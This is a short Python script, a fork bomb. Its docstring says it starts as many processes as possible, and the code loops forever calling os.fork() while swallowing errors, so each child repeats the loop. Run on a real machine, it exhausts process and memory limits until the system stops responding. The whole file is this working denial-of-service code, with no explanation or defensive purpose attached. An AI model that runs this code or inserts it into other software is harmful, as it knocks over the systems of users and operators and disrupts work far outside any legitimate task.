"""As many processes as possible, each starting more."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
